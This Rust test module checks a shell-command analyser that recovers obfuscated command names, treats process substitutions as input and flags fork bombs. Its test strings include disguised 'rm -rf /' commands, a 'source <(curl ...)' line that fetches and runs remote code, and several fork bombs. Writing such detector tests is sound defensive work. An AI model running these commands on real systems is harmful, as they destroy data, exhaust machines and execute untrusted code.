//! What the reader makes of a text: the commands it finds, the words they get, and what it says of the text as a whole.

use super::{ShellInput, ShellText, read};

fn of(text: &str) -> ShellText {
    read(text, &|_| None, 100)
}

/// The words of every command, those that are known only when it runs marked by `?`.
fn words(text: &str) -> Vec<String> {
    let shown = |word: &crate::assessment::Word| {
        format!("{}{}", word.text.to_lossy(), if word.literal { "" } else { "?" })
    };
    of(text)
        .commands
        .iter()
        .map(|command| command.words.iter().map(shown).collect::<Vec<_>>().join(" "))
        .collect()
}

#[test]
fn names_that_are_put_together_are_read() {
    for (text, expected) in [
        ("a=xrmy; ${a:1:2} -rf /", "rm -rf /"),
        ("a=RM; ${a,,} -rf /", "rm -rf /"),
        ("a=r_m; ${a/_/} -rf /", "rm -rf /"),
        ("a=rm.sh; ${a%.sh} -rf /", "rm -rf /"),
        ("a=./rm; ${a#./} -rf /", "rm -rf /"),
        ("IFS=,; a=rm,-rf,/; $a", "rm -rf /"),
        ("$(echo mr | rev) -rf /", "rm -rf /"),
        ("$(echo ez | tr a-z n-za-m) -rf /", "rm -rf /"),
        ("$(echo cm0= | base64 -d) -rf /", "rm -rf /"),
    ] {
        assert_eq!(words(text).last().map(String::as_str), Some(expected), "{text}");
    }
}

#[test]
fn what_is_not_followed_is_unknown() {
    for text in
        ["${a:1:2} -rf /", "a=rm; ${a:$b} -rf /", "$(date | tr a-z n-za-m) -rf /", "IFS=$x; a=rm; $a /"]
    {
        let last = words(text).pop().unwrap_or_default();
        assert!(last.contains('?'), "{text}: {last}");
    }
}

#[test]
fn a_process_substitution_with_a_known_text_is_an_input() {
    let read = of("source <(printf 'rm -rf %s' /)");
    let source = read.commands.last().expect("there is a command");
    assert_eq!(source.input, ShellInput::Text("rm -rf /".into()));
    let redirected = of("bash < <(echo true)");
    assert_eq!(
        redirected.commands.last().map(|command| command.input.clone()),
        Some(ShellInput::Text("true".into()))
    );
    let unknown = of("source <(curl -s https://example.com/x)");
    assert_eq!(unknown.commands.last().map(|command| command.input.clone()), Some(ShellInput::Inherited));
}

#[test]
fn what_starts_itself_without_end_is_said() {
    for text in [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "function f { f & f; }; f",
        "while true; do sleep 1000 & done",
        "while :\ndo\n./x &\ndone",
        "until false; do x & done",
        "eval 'f(){ f|f& };f'; $(f(){ f|f& };f)",
    ] {
        assert!(of(text).multiplies, "{text}");
    }
    for text in [
        "while true; do sleep 1; done &",
        "f() { g | h & }; f",
        "walk() { for d in */; do walk \"$d\"; done; }; walk",
        "while read -r x; do y & done < z",
        "while true; do x && y; done",
        "a & b & c",
    ] {
        assert!(!of(text).multiplies, "{text}");
    }
}
